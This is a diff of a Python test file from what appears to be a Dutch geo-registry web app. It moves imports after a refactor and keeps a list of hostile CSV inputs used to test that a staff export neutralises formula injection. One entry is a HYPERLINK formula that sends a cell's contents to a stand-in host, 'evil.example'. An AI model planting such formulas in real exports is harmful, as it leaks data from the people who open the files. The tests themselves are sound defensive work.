@@ -6,7 +6,7 @@ import json
 import pytest
 
 from helpers import WIJKEN_FILE, login, make_app
-from geo_registry.csvexport import csv_text, phone_cell, safe_cell
+from geo_registry.domain.csv_export import csv_text, phone_cell, safe_cell
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', "+SUM(1+1)", "@SUM(1+1)", "-2+3",
            "\tTAB=1+1", "\r=1+1"]
@@ -35,9 +35,9 @@ def test_phone_numbers_are_written_the_dutch_way_and_readable():
 
 
 def test_beheerders_export_neutralises_what_came_in_through_the_form(mail_app, staff_user):
-    from geo_registry import app_services
-    from geo_registry.groups import Group
-    from geo_registry.validation import mobile_number
+    from geo_registry.web import services as app_services
+    from geo_registry.domain.groups import Group
+    from geo_registry.domain.validation import mobile_number
 
     with mail_app.app_context():
         store = app_services.current().store
